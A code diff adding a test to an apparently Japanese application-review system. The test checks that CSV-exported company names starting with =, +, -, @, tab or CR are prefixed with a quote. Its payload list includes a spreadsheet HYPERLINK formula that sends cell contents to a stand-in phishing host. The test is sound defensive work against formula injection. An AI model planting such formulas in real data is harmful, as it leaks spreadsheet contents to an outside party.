@@ -120,3 +120,25 @@ def test_csv_memory_does_not_grow_with_the_row_count(db, monkeypatch):
     large = _peak_while_exporting(reviewer)
     # Ten times the rows, about the same peak: rows are streamed in chunks, never all held at once.
     assert large < small * 2, (small, large)
+
+
+FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://phish.example/?d="&A1,"詳細")')
+
+
+def test_csv_cells_that_start_a_formula_are_exported_as_text(db):
+    """Issue 8, item 7: typed company names starting with = + - @ TAB CR open as text in a spreadsheet."""
+    reviewer = make_staff("rev1", REVIEWER)
+    for formula in FORMULAS:
+        make_application(company=formula)
+    _, rows = _csv(reviewer)
+    header, body = rows[0], rows[1:]
+    companies = {r[header.index("会社名")] for r in body}
+    assert len(body) == len(FORMULAS)
+    for cell in (c for r in body for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # Each typed value is there, behind the quote (tab and CR as stored after the screen's cleaning).
+    with UnitOfWork() as u:
+        from db.models import Applicant
+        stored = set(u.session.scalars(select(Applicant.company_name)))
+    assert companies == {"'" + s if s.startswith(("=", "+", "-", "@", "\t", "\r")) else s for s in stored}
+    assert "'=1+1" in companies and "'@SUM(1)" in companies
